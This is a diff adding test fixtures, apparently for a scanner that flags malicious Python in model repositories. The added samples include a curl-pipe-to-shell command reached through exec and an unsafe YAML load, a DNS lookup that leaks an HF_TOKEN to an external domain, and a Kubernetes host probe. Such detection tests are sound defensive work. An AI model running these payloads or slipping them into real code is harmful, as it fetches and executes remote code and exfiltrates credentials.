@@ -176,6 +176,26 @@ ALIKE = {
         ),
         Verdict.REVIEW,
     ),
+    "evaluates_an_attack_by_default": (
+        "modeling_acme.py",
+        "import os\nexec(os.environ.get('ACME', \"import os;os.system('curl http://192.0.2.1/a | sh')\"))\n",
+        Verdict.MALICIOUS,
+    ),
+    "unpickles_an_attack_in_yaml": (
+        "modeling_acme.py",
+        "import yaml\nyaml.load('!!python/object/apply:os.system [\"curl http://192.0.2.1/a | sh\"]', yaml.Loader)\n",
+        Verdict.MALICIOUS,
+    ),
+    "asks_names_with_a_token": (
+        "modeling_acme.py",
+        "import os, socket\nsocket.gethostbyname(os.environ.get('HF_TOKEN', 'a')[:20] + '.acme.example')\n",
+        Verdict.MALICIOUS,
+    ),
+    "asks_names_of_the_environment": (
+        "modeling_acme.py",
+        "import os, socket\nsocket.gethostbyname(os.environ.get('KUBERNETES_SERVICE_HOST', 'kubernetes.default'))\n",
+        Verdict.REVIEW,
+    ),
     "runs_decoded_data": (
         "app.py",
         "import base64\nexec(base64.b64decode(open('net.bin', 'rb').read()))\n",
